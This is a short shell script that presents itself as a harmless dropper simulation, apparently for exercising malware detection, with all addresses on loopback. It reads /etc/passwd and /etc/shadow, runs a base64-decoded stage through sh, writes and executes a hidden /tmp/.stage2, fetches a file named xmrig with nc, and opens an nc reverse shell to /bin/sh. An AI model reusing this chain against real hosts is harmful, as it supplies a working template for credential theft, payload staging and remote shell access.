#!/bin/sh
# A harmless sample that behaves like a dropper. Every address is this machine's loopback.
echo "[demo] starting"
id; uname -a; hostname
cat /etc/passwd > /dev/null
cat /etc/shadow > /dev/null
echo 'echo "[demo] decoded stage ran"' | base64 | base64 -d | sh
printf '#!/bin/sh\necho "[demo] second stage"\n' > /tmp/.stage2
chmod +x /tmp/.stage2
/tmp/.stage2
printf "GET /xmrig HTTP/1.0\r\n\r\n" | nc 127.0.0.1 8080 > /tmp/xmrig || echo "[demo] download failed"
nc 127.0.0.1 4444 -e /bin/sh || echo "[demo] reverse shell failed"
rm -f /tmp/.stage2
echo "[demo] done"
